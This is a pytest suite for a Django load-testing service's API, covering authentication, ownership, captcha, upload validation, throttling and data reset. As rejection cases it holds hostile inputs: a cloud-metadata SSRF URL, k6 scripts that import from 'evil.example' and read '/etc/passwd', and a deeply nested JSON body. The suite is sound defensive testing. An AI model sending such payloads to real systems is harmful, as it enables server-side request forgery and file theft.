"""The public API: every endpoint with an admin key, a user key, another user's key and no key."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from runs.api.apikeys import PerKeyThrottle, apikey_revoke
from runs.api.captcha import captcha_issue
from runs.conftest import wait_until
from runs.models import ApiKey, Project, Run

pytestmark = pytest.mark.django_db(transaction=True)

Api = Callable[[str | None], Any]


def make_run(owner: ApiKey | None, **fields: Any) -> Run:
    project, _ = Project.objects.get_or_create(name=fields.pop("project", "p"))
    defaults = {"mode": "script", "script": "", "planned_duration_s": 1, "max_vus": 1, "sla_config": {}}
    return Run.objects.create(project=project, api_key=owner, **{**defaults, **fields})


def solve(question: str) -> str:
    match = re.search(r"(\d+)\s*([+\-×*])\s*(\d+)", question)
    assert match is not None, question
    left, operator, right = match.groups()
    a, b = int(left), int(right)
    return str(a + b if operator == "+" else a - b if operator == "-" else a * b)


# --- authentication and ownership ---------------------------------------------------


@pytest.mark.parametrize(
    "method, path",
    [
        ("post", "/api/run"),
        ("post", "/api/runjs"),
        ("get", "/api/captcha"),
        ("get", "/api/result/list"),
        ("post", "/api/resetdata"),
    ],
)
def test_no_key_or_a_bad_key_is_401(api: Api, method: str, path: str) -> None:
    for client in (api(None), api("k6i_not-a-real-key")):
        response = getattr(client, method)(path)
        assert response.status_code == 401
        assert response.json()["error"]["code"] in ("not_authenticated", "authentication_failed")


def test_revoked_key_is_401(api: Api, keys: dict[str, Any]) -> None:
    apikey_revoke(keys["user"][0].pk)
    assert api("user").get("/api/result/list").status_code == 401


@pytest.mark.parametrize("who, status", [("user", 200), ("admin", 200), ("other", 404), (None, 401)])
def test_a_run_is_visible_to_its_key_and_admins_only(api: Api, keys: dict[str, Any], who: str | None, status: int) -> None:
    run = make_run(keys["user"][0])
    for path in (f"/api/result/{run.pk}", f"/api/download/{run.pk}", f"/api/run/{run.pk}/events"):
        response = api(who).get(path)
        expected = 404 if path.startswith("/api/download") and status == 200 else status  # no PDF yet
        assert response.status_code == expected, path
    cancel = api(who).post(f"/api/run/{run.pk}/cancel")
    assert cancel.status_code == {200: 202, 404: 404, 401: 401}[status]


def test_list_shows_own_runs_with_filters_ordering_and_pages(api: Api, keys: dict[str, Any]) -> None:
    user, other = keys["user"][0], keys["other"][0]
    for score, grade in ((95.0, "A"), (70.0, "C"), (50.0, "F")):
        make_run(user, status="done", score=score, grade=grade, project="shop")
    make_run(user, status="failed", project="blog")
    make_run(other, status="done", grade="A", project="shop")
    mine = api("user").get("/api/result/list").json()
    assert mine["count"] == 4 and {item["project"] for item in mine["results"]} == {"shop", "blog"}
    assert api("admin").get("/api/result/list").json()["count"] == 5
    graded = api("user").get("/api/result/list", {"grade": "A"}).json()
    assert [item["score"] for item in graded["results"]] == [95.0]
    ordered = api("user").get("/api/result/list", {"project": "shop", "ordering": "score"}).json()
    assert [item["score"] for item in ordered["results"]] == [50.0, 70.0, 95.0]
    page = api("user").get("/api/result/list", {"page_size": 2, "page": 2, "status": "done"}).json()
    assert page["count"] == 3 and len(page["results"]) == 1 and page["next"] is None
    future = api("user").get("/api/result/list", {"created_after": "2999-01-01T00:00:00Z"}).json()
    assert future["count"] == 0
    bad = api("user").get("/api/result/list", {"grade": "Z", "created_after": "yesterday"})
    assert bad.status_code == 400 and set(bad.json()["error"]["fields"]) == {"grade", "created_after"}
    for ordering in ("score,", ",,,", "bogus"):  # only field names, as the schema says
        refused = api("user").get("/api/result/list", {"ordering": ordering})
        assert refused.status_code == 400 and set(refused.json()["error"]["fields"]) == {"ordering"}, ordering


# --- builder runs ------------------------------------------------------------------


def test_post_run_is_accepted_and_its_result_arrives(
    api: Api, embedded: None, demo_target: Callable[..., Any], settings: Any
) -> None:
    settings.RUN_POST_STAGES = []  # count only k6's requests at the target
    target = demo_target(latency_min_ms=20, latency_max_ms=100, error_rate=0.10)
    response = api("user").post("/api/run", {"url": target.url, "vus": 5, "duration": "3s"}, format="json")
    assert response.status_code == 202
    body = response.json()
    assert body["status"] == "queued" and body["links"]["self"] == f"/api/result/{body['run_id']}"
    wait_until(lambda: Run.objects.get(pk=body["run_id"]).is_terminal, 60, "the run to finish")
    result = api("user").get(body["links"]["self"]).json()
    assert result["status"] == "done" and result["k6"]["exit_code"] == 0
    assert result["metrics"]["http_req_failed"]["rate"] == pytest.approx(0.10, abs=0.01)
    assert result["metrics"]["http_reqs"]["count"] == target.errors.count
    for key in ("grade", "score", "sla", "timeseries", "endpoints", "thresholds", "links"):
        assert key in result


def test_post_run_can_stream_its_events(api: Api, embedded: None, demo_target: Callable[..., Any]) -> None:
    target = demo_target(latency_min_ms=1, latency_max_ms=5)
    response = api("user").post(
        "/api/run", {"url": target.url, "vus": 1, "duration": "2s"}, format="json", HTTP_ACCEPT="text/event-stream"
    )
    assert response.status_code == 200 and response["Content-Type"] == "text/event-stream"

    async def collect() -> bytes:
        return b"".join([chunk async for chunk in response.streaming_content])

    body = async_to_sync(collect)().decode()
    assert "event: stage" in body and "event: metrics" in body and body.rstrip().split("\n\n")[-1].startswith("id: ")
    assert "event: end" in body


@pytest.mark.parametrize(
    "payload, field",
    [({"url": "http://169.254.169.254/"}, "url"), ({"url": "http://127.0.0.1:9/", "vus": 100000}, "vus"), ({}, "url")],
)
def test_bad_builder_input_is_400_with_fields(api: Api, payload: dict[str, Any], field: str) -> None:
    response = api("user").post("/api/run", payload, format="json")
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == "invalid" and field in error["fields"]
    assert Run.objects.count() == 0


def test_malformed_json_is_a_400_in_the_error_shape(api: Api) -> None:
    response = api("user").generic("POST", "/api/run", "{not json", content_type="application/json")
    assert response.status_code == 400 and response.json()["error"]["code"] == "parse_error"


def test_unknown_api_path_is_json_404(api: Api) -> None:
    response = api("user").get("/api/nothing-here")
    assert response.status_code == 404 and response.json()["error"]["code"] == "not_found"


# --- captcha and script mode -----------------------------------------------------------


def upload(
    api: Api, script: bytes, challenge: dict[str, Any] | None = None, name: str = "test.js", answer: str | None = None
) -> Any:
    challenge = challenge or api("user").get("/api/captcha").json()
    data = {
        "project_name": "scripts",
        "file": SimpleUploadedFile(name, script, content_type="application/javascript"),
        "captcha_answer": answer if answer is not None else solve(challenge["challenge"]),
        "captcha_token": challenge["captcha_token"],
        "captcha_timestamp": challenge["captcha_timestamp"],
    }
    return api("user").post("/api/runjs", data, format="multipart")


def test_captcha_is_single_use_bound_to_its_answer_and_key_and_expires(api: Api, keys: dict[str, Any], settings: Any) -> None:
    settings.REDIS_URL = "redis://127.0.0.1:6379/15"  # queue to a broker nobody consumes: nothing runs
    script = b"export const options = { vus: 1, duration: '1s' };\nexport default function () {}\n"
    challenge = api("user").get("/api/captcha").json()
    assert upload(api, script, challenge).status_code == 202
    replay = upload(api, script, challenge)
    assert replay.status_code == 400 and "already used" in replay.json()["error"]["message"]
    wrong = upload(api, script, answer="-1")
    assert wrong.status_code == 400 and wrong.json()["error"]["code"] == "captcha_invalid"
    someone_elses = api("other").get("/api/captcha").json()
    stolen = upload(api, script, someone_elses)  # answered correctly, but with another key than the one that asked
    assert stolen.status_code == 400 and "another API key" in stolen.json()["error"]["message"]
    old = captcha_issue(now_s=int(time.time()) - 400, holder=str(keys["user"][0].pk))
    expired = upload(api, script, {"challenge": old.question, "captcha_token": old.token, "captcha_timestamp": old.timestamp})
    assert expired.status_code == 400 and "expired" in expired.json()["error"]["message"]
    assert upload(api, script, answer="PASSED").status_code == 400  # test mode is off
    settings.CAPTCHA_TEST_MODE = True
    assert upload(api, script, answer="PASSED").status_code == 202
    assert Run.objects.count() == 2


@pytest.mark.parametrize(
    "script, name, words",
    [
        (b"export const options = { vus: 10000, duration: '10s' };\nexport default function () {}\n", "big.js", "10000 VUs"),
        (
            b"export const options = { vus: 1, duration: '24h' };\nexport default function () {}\n",
            "long.js",
            "runs for up to 86430 s",
        ),  # 24 h + gracefulStop
        (b"\xff\xfeexport default function () {}", "bin.js", "not UTF-8"),
        (b"export default function () {}", "script.py", "is not a k6 script or bundle"),
        (b"// " + b"x" * (2 * 1024 * 1024), "huge.js", "limit is 2097152 bytes"),
        (
            b"import a from 'https://evil.example/a.js';\nconst p = open('/etc/passwd');\nexport default function () {}\n",
            "bad.js",
            "bad.js line 2",
        ),
    ],
)
def test_rejected_scripts_are_400_listing_findings_and_store_nothing(api: Api, script: bytes, name: str, words: str) -> None:
    response = upload(api, script, name=name)
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "script_rejected" and any(words in finding for finding in error["fields"]["file"]), error
    assert Run.objects.count() == 0 and Project.objects.count() == 0


def test_every_static_finding_is_listed(api: Api) -> None:
    script = b"import a from 'https://evil.example/a.js';\nimport s from 'k6/x/sql';\nconst p = open('/etc/passwd');\nexport default function () {}\n"
    findings = upload(api, script).json()["error"]["fields"]["file"]
    assert [finding.split(":")[0] for finding in findings] == ["test.js line 1", "test.js line 2", "test.js line 3"]


# --- download, cancel, reset, throttling, schema ----------------------------------------


def test_download_is_404_until_the_pdf_exists(api: Api, keys: dict[str, Any], settings: Any, tmp_path: Path) -> None:
    settings.RESULT_DIR = tmp_path
    run = make_run(keys["user"][0])
    missing = api("user").get(f"/api/download/{run.pk}")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_ready"
    (tmp_path / str(run.pk)).mkdir()
    (tmp_path / str(run.pk) / "report.pdf").write_bytes(b"%PDF-1.7 test")
    found = api("user").get(f"/api/download/{run.pk}")
    assert found.status_code == 200 and found["Content-Type"] == "application/pdf"
    assert b"".join(found.streaming_content) == b"%PDF-1.7 test"


def test_cancel_of_an_ended_run_is_409(api: Api, keys: dict[str, Any]) -> None:
    run = make_run(keys["user"][0], status="done")
    assert api("user").post(f"/api/run/{run.pk}/cancel").status_code == 409
    queued = make_run(keys["user"][0])
    assert api("user").post(f"/api/run/{queued.pk}/cancel").json()["status"] == "cancelled"


def test_reset_needs_an_admin_key_loopback_and_confirmation(
    api: Api, keys: dict[str, Any], settings: Any, tmp_path: Path
) -> None:
    settings.RESULT_DIR = tmp_path
    run = make_run(keys["user"][0])
    (tmp_path / str(run.pk)).mkdir()
    (tmp_path / str(run.pk) / "report.pdf").write_bytes(b"pdf")
    confirm = {"confirm": "DELETE ALL"}
    assert api("user").post("/api/resetdata", confirm, format="json").status_code == 403
    remote = api("admin").post("/api/resetdata", confirm, format="json", REMOTE_ADDR="10.1.2.3")
    assert remote.status_code == 403 and remote.json()["error"]["code"] == "not_loopback"
    unconfirmed = api("admin").post("/api/resetdata", {"confirm": "yes"}, format="json")
    assert unconfirmed.status_code == 400 and "confirm" in unconfirmed.json()["error"]["fields"]
    assert Run.objects.count() == 1
    done = api("admin").post("/api/resetdata", confirm, format="json")
    assert done.status_code == 200 and done.json()["deleted"] == {"runs": 1, "projects": 1, "files": 1}
    assert Run.objects.count() == 0 and list(tmp_path.iterdir()) == []
    assert ApiKey.objects.count() == 3  # keys stay


def test_resetdata_command(keys: dict[str, Any], settings: Any, tmp_path: Path) -> None:
    settings.RESULT_DIR = tmp_path
    make_run(keys["user"][0])
    (tmp_path / "stray.txt").write_text("x")
    call_command("resetdata", "--yes")
    assert Run.objects.count() == 0 and not (tmp_path / "stray.txt").exists()


def test_throttling_is_per_key_with_retry_after(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(PerKeyThrottle, "rate", "3/min", raising=False)
    cache.clear()
    statuses = [api("user").get("/api/result/list").status_code for _ in range(4)]
    assert statuses == [200, 200, 200, 429]
    limited = api("user").get("/api/result/list")
    assert limited.json()["error"]["code"] == "throttled" and int(limited["Retry-After"]) > 0
    assert api("other").get("/api/result/list").status_code == 200  # another key has its own budget


def test_apikey_command_and_bootstrap_key(api: Api, settings: Any, capsys: pytest.CaptureFixture[str]) -> None:
    call_command("apikey", "create", "ci", "--admin")
    key = capsys.readouterr().out.strip().splitlines()[-1]
    assert api(key).get("/api/result/list").status_code == 200
    assert ApiKey.objects.get(name="ci").key_hash != key  # stored hashed
    call_command("apikey", "list")
    assert "ci" in capsys.readouterr().out and key not in capsys.readouterr().out
    call_command("apikey", "revoke", str(ApiKey.objects.get(name="ci").pk))
    assert api(key).get("/api/result/list").status_code == 401
    settings.BACKEND_API_KEY = "bootstrap-secret-value-for-tests"
    assert (
        api("bootstrap-secret-value-for-tests").post("/api/resetdata", {"confirm": "DELETE ALL"}, format="json").status_code
        == 200
    )
    assert ApiKey.objects.get(is_admin=True, name__startswith="bootstrap").last_used_at is not None


def test_openapi_schema_and_local_docs_page(client: Any) -> None:
    schema = client.get("/api/schema", HTTP_ACCEPT="application/json").json()
    assert {"/api/run", "/api/runjs", "/api/result/{run_id}", "/api/result/list", "/api/resetdata"} <= set(schema["paths"])
    docs = client.get("/api/docs").content.decode()
    assert "swagger" in docs.lower() and not re.search(r"(src|href)=[\"']https?://", docs)


def test_a_key_with_too_many_active_runs_gets_429_with_retry_after(api: Api, keys: dict[str, Any], settings: Any) -> None:
    settings.MAX_ACTIVE_RUNS = 2
    settings.REDIS_URL = "redis://127.0.0.1:6379/15"  # queue to a broker nobody consumes: the runs stay queued
    body = {"url": "http://127.0.0.1:9/", "vus": 1, "duration": "1s"}
    assert [api("user").post("/api/run", body, format="json").status_code for _ in range(2)] == [202, 202]
    refused = api("user").post("/api/run", body, format="json")
    assert api("other").post("/api/run", body, format="json").status_code == 202  # another key is not held up
    assert api("admin").post("/api/run", body, format="json").status_code == 202
    assert refused.status_code == 429 and refused["Retry-After"] == "30"
    assert refused.json()["error"]["code"] == "too_many_active_runs" and "MAX_ACTIVE_RUNS=2" in refused.json()["error"]["message"]
    assert Run.objects.filter(api_key=keys["user"][0]).count() == 2


def test_json_nested_too_deeply_is_a_400_in_the_error_shape(api: Api) -> None:
    body = '{"url": "http://127.0.0.1:9/", "method": "POST", "body_type": "json", "body": ' + "[" * 100_000 + "]" * 100_000 + "}"
    response = api("user").generic("POST", "/api/run", body, content_type="application/json")
    assert response.status_code == 400 and response.json()["error"]["code"] == "parse_error"
    assert "nested too deeply" in response.json()["error"]["message"] and Run.objects.count() == 0
